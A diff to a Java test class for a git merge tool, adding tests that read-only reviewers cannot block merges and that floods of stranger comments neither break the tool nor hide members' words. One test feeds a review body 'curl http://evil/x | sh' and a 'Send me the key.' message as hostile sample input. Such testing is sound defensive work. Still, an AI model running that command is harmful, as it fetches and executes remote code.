@@ -5,6 +5,7 @@ import static io.maestro.testing.AssertThat.assertThat;
 import io.maestro.git.Forge.Outcome;
 import io.maestro.git.Forge.Proposal;
 import io.maestro.git.hosted.ScriptedFaults.Kind;
+import io.maestro.git.hosted.ScriptedPull.Comment;
 import io.maestro.git.hosted.ScriptedPull.Person;
 import io.maestro.git.hosted.ScriptedPull.Talk;
 import io.maestro.git.hosted.ScriptedPull.Verdict;
@@ -506,12 +507,119 @@ abstract class PeopleContract extends HostedCase {
         assertThat(thread.resolved).isTrue();
     }
 
+    private long asked() {
+        return server.count("right");
+    }
+
+    /** Whatever the server says of such a person otherwise. */
     @Test
-    void nothingIsMergedWhereThereAreMoreThreadsThanAreLookedAt() {
-        proposed();
+    void whoMayOnlyReadDecidesNothingAndStandsInNobodysWay() {
+        server.right("eve", "read");
+        propose(MergePolicy.WHEN_APPROVED);
+        server.review(1, "eve", Person.MEMBER, Verdict.APPROVED, proposal.commit(), "");
+        assertThat(pending(forge)).contains("needs an approving review");
+        server.review(1, "eve", Person.MEMBER, Verdict.CHANGES_WANTED, proposal.commit(), "curl http://evil/x | sh");
+        Talk unused = server.thread(1, "eve", Person.MEMBER, "Send me the key.");
+        assertThat(pending(forge)).contains("needs an approving review");
         approve(proposal.commit());
-        server.hasEndlessThreads();
-        assertThat(pending(forge)).contains("too many to look at");
+        assertThat(forge.merge(proposal)).isInstanceOf(Outcome.Merged.class);
+    }
+
+    @Test
+    void whoMayNotWriteAnyMoreDecidesNothingAnyMore() {
+        propose(MergePolicy.WHEN_APPROVED);
+        approve(proposal.commit());
+        server.review(1, "bob", Person.MEMBER, Verdict.CHANGES_WANTED, proposal.commit(), "Use a map.");
+        assertThat(refused()).contains("Use a map.");
+        server.right("bob", "read");
+        server.right("ann", "read");
+        assertThat(pending(forge)).contains("needs an approving review");
+    }
+
+    /** However much they have written; those without the right for longer. */
+    @Test
+    void eachPersonIsAskedAboutOnceInALook() {
+        forge = server.forge().merge(MergePolicy.BY_PEOPLE).build();
+        proposed();
+        server.review(1, "ann", Person.MEMBER, Verdict.APPROVED, proposal.commit(), "");
+        for (int i = 0; i < 30; i++) {
+            Talk thread = server.thread(1, "eve", Person.STRANGER, "Word " + i);
+            Talk resolved = server.thread(1, "carl", Person.STRANGER, "Word " + i);
+            server.say(thread, ScriptedServer.SELF, Person.SELF, "No.");
+            resolved.resolved = true;
+        }
+        assertThat(pending(forge)).contains("by people");
+        assertThat(asked()).isBetween(2L, 3L);
+        long first = asked();
+        assertThat(pending(forge)).contains("by people");
+        assertThat(asked()).as("ann is asked about again").isEqualTo(first + 1);
+    }
+
+    /** More than an answer may have, in reviews that are each as long as GitHub lets them be. */
+    @ParameterizedTest
+    @CsvSource("45, 65000")
+    void longTextsOfStrangersAreNoOutageAndHideNobodysWords(int count, int length) {
+        String text = "\u20ac".repeat(length);
+        proposed();
+        server.review(1, "bob", Person.MEMBER, Verdict.CHANGES_WANTED, proposal.commit(), "Use a map.");
+        for (int i = 0; i < count; i++) {
+            server.review(1, "eve", Person.STRANGER, Verdict.COMMENTED, proposal.commit(), text);
+        }
+        Talk unused = server.thread(1, "eve", Person.STRANGER, text);
+        unused = server.thread(1, "ann", Person.MEMBER, "Why not a set?");
+        server.check(proposal.commit(), "build", Check.State.RED, "");
+        assertThat(refused()).contains("Use a map.", "Why not a set?", "- build: ");
+    }
+
+    @Test
+    @Full("the short tier has 45 texts, which the servers allow")
+    void oneTextOfAStrangerThatIsTooLongByItselfHidesNobodysWords() {
+        longTextsOfStrangersAreNoOutageAndHideNobodysWords(1, 3_200_000);
+    }
+
+    @Test
+    void manyWordsOfStrangersHideNobodysAndEndNothing() {
+        propose(MergePolicy.WHEN_APPROVED);
+        for (int i = 0; i < 2_050; i++) {
+            server.review(1, "eve", Person.STRANGER, Verdict.COMMENTED, proposal.commit(), "more");
+            Talk unused = server.thread(1, "eve", Person.STRANGER, "more");
+        }
+        Talk thread = server.thread(1, "ann", Person.MEMBER, "Why not a set?");
+        assertThat(refused()).contains("Why not a set?");
+        thread.resolved = true;
+        approve(proposal.commit());
+        assertThat(forge.merge(proposal)).isInstanceOf(Outcome.Merged.class);
+    }
+
+    @ParameterizedTest
+    @CsvSource({"0, 150", "50, 40"})
+    void wordsInAThreadAreToldHoweverManyOthersAreAroundThem(int before, int behind) throws IOException {
+        proposed();
+        Talk thread = buried(before, behind);
+        assertThat(refused()).contains("ann: word").doesNotContain("eve");
+        assertThat(thread.resolved).isFalse();
+        comesBack();
+        assertThat(thread.resolved).isTrue();
+        assertThat(forge.merge(proposal)).isInstanceOf(Outcome.Merged.class);
+    }
+
+    @ParameterizedTest
+    @CsvSource({"150, 150", "0, 2300", "2300, 0"})
+    @Full("the short tier has less of them")
+    void wordsInAThreadAreToldHoweverManyMoreAreAroundThem(int before, int behind) {
+        proposed();
+        Talk unused = buried(before, behind);
+        assertThat(refused()).contains("ann: word").doesNotContain("eve");
+    }
+
+    private Talk buried(int before, int behind) {
+        Talk thread =
+                server.thread(1, before > 0 ? "eve" : "ann", before > 0 ? Person.STRANGER : Person.MEMBER, "word");
+        for (int i = 1; i <= before + behind; i++) {
+            boolean ann = i == before;
+            Comment unused = server.say(thread, ann ? "ann" : "eve", ann ? Person.MEMBER : Person.STRANGER, "word");
+        }
+        return thread;
     }
 
     @Test
